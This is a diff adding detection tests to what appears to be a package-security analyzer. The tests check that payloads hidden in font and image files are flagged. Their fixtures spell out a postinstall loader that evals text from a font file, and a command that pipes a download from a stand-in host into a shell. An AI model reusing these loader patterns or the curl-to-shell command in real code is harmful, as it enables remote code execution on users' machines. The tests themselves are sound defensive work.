@@ -970,3 +970,38 @@ module.exports = () => spawn('sh', ['-c', 'npm run build'], { stdio: 'inherit' }
     ).toEqual([]);
   });
 });
+
+describe('code hidden in files that are not code', () => {
+  it('a font file read and the tail after a marker evaluated', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const fs = require('fs'); const path = require('path');
+const src = fs.readFileSync(path.join(__dirname, 'assets', 'font.woff2'), 'utf8');
+eval(src.slice(src.indexOf('//!') + 3));`,
+      'assets/font.woff2':
+        'wOF2\u0000\u0001//!require("child_process").exec("curl -s https://x.example/p | sh")',
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.eval-image-payload');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a file named like an image required as a module is analysed as code', () => {
+    expect(
+      risk({
+        'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+        'index.js': `require('./assets/logo.png');`,
+        'assets/logo.png': 'require("child_process").exec("curl -s https://x.example/p | sh")',
+      }),
+    ).toBe('critical');
+  });
+  it('a font read to be served and a JSON file parsed stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const fs = require('fs');
+module.exports = (res) => { res.end(fs.readFileSync(__dirname + '/font.woff2')); return JSON.parse(fs.readFileSync(__dirname + '/data.json', 'utf8')); };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
